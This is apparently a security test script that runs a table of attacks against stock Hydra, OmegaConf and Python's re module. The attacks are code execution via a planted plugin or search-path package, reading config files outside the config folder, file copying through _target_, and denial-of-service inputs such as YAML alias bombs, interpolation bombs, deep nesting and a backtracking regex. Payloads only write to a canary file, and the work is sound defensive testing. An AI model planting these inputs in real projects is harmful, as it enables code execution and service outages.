"""Each attack of the table on stock Hydra, OmegaConf and re: prints what happened as JSON, one line an attack.

Run as a script in a folder of its own, which it fills: `python stock_hydra.py CANARY`. CANARY is a file that the
attacks' code writes to. Whatever never ends is stopped after a second of CPU.
"""

import json
import os
import shutil
import signal
import sys
from collections.abc import Callable
from pathlib import Path

CANARY = sys.argv[1]
CODE = f"open({CANARY!r}, 'a').write(__name__ + '\\n')\n"


class StoppedError(BaseException):
    """A second of CPU was not enough."""


STOPPED: list[bool] = []


def _stop(*_: object) -> None:
    STOPPED.append(True)
    raise StoppedError


def config(files: dict[str, str]) -> str:
    """Write a fresh configuration folder."""
    folder = Path("stock").resolve()
    shutil.rmtree(folder, ignore_errors=True)
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return str(folder)


def composed(files: dict[str, str]) -> str:
    """Compose and resolve with stock Hydra."""
    from hydra import compose, initialize_config_dir
    from omegaconf import OmegaConf

    with initialize_config_dir(config(files), version_base="1.3"):
        return OmegaConf.to_yaml(compose("config", return_hydra_config=True).get("hydra") or {}) + OmegaConf.to_yaml(
            compose("config"), resolve=True
        )


def plugin_folder() -> str:
    path = Path("hydra_plugins/evil/__init__.py")
    path.parent.mkdir(parents=True)
    path.write_text(CODE)
    sys.path.insert(0, os.getcwd())  # as `python -m` and scripts have it
    composed({"config.yaml": "a: 1\n"})
    return Path(CANARY).read_text()


def search_path_package() -> str:
    Path("evilpackage").mkdir()
    Path("evilpackage/__init__.py").write_text(CODE)
    composed({"config.yaml": "hydra: {searchpath: ['pkg://evilpackage']}\n"})
    return Path(CANARY).read_text()


def search_path_folder() -> str:
    Path("elsewhere/db").mkdir(parents=True)
    Path("elsewhere/db/secret.yaml").write_text("read: from elsewhere\n")
    text = f"hydra: {{searchpath: ['file://{Path('elsewhere').resolve()}']}}\ndefaults: [{{db: secret}}]\n"
    return composed({"config.yaml": text})


def package_header() -> str:
    header = "# @package hydra\nrun: {dir: /anywhere/else}\n"
    return composed({"config.yaml": "defaults: [{x: y}]\n", "x/y.yaml": header})


def group_at_hydra() -> str:
    files = {"config.yaml": "defaults: [{'x@hydra.run': y}, _self_]\n", "x/y.yaml": "dir: /anywhere/else\n"}
    return composed(files)


def outside_defaults() -> str:
    Path("outside.yaml").write_text("read: from outside\n")
    return composed({"config.yaml": "defaults: [../outside]\n"})


def environment() -> str:
    return composed({"config.yaml": "key: ${oc.env:CANARY_KEY}\n"})


def environment_in_defaults() -> str:
    os.environ["CHOICE"] = "y"
    return composed({"config.yaml": "defaults: [{x: '${oc.env:CHOICE}'}]\n", "x/y.yaml": "chosen: yes\n"})


def alias_bomb() -> str:
    from omegaconf import OmegaConf

    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    path = Path(config({"bomb.yaml": "\n".join(lines)})) / "bomb.yaml"
    OmegaConf.load(path)
    return "loaded"


def reference_bomb() -> str:
    lines = ["r0: xxxxxxxxxx"] + [f"r{n}: '${{r{n - 1}}}${{r{n - 1}}}'" for n in range(1, 23)]
    return str(len(composed({"config.yaml": "\n".join(lines) + "\n"})))


def depth_bomb() -> str:
    from hydra.core.override_parser.overrides_parser import OverridesParser

    OverridesParser.create().parse_override("x=" + "[" * 3000 + "]" * 3000)
    return "parsed"


def huge_range() -> str:
    from hydra.core.override_parser.overrides_parser import OverridesParser

    return str(len(list(OverridesParser.create().parse_override("x=range(1,2000000)").sweep_iterator())))


def target() -> str:
    from hydra.utils import instantiate
    from omegaconf import OmegaConf

    source = Path("evil.txt")
    source.write_text("target\n")
    instantiate(OmegaConf.create({"_target_": "shutil.copyfile", "src": str(source), "dst": CANARY}))
    return Path(CANARY).read_text()


def regex_bomb() -> str:
    import re

    return str(re.search(r"(a|a)*$", "a" * 40 + "b"))


ATTACKS: tuple[Callable[[], str], ...] = (
    *(plugin_folder, search_path_package, search_path_folder, package_header, group_at_hydra, outside_defaults),
    *(environment, environment_in_defaults, alias_bomb, reference_bomb, depth_bomb, huge_range, target, regex_bomb),
)


def main() -> None:
    signal.signal(signal.SIGVTALRM, _stop)
    for attack in ATTACKS:
        Path(CANARY).write_text("")
        STOPPED.clear()
        signal.setitimer(signal.ITIMER_VIRTUAL, 4.0 if attack is plugin_folder else 1.0)  # the first one imports Hydra
        try:
            outcome = attack()
        except (StoppedError, Exception) as error:  # OmegaConf wraps whatever comes out of it
            outcome = f"{type(error).__name__}: {error}"[:300]
        signal.setitimer(signal.ITIMER_VIRTUAL, 0)
        outcome = "stopped after a second" if STOPPED else outcome
        print(json.dumps([attack.__name__, outcome]), flush=True)


if __name__ == "__main__":
    main()
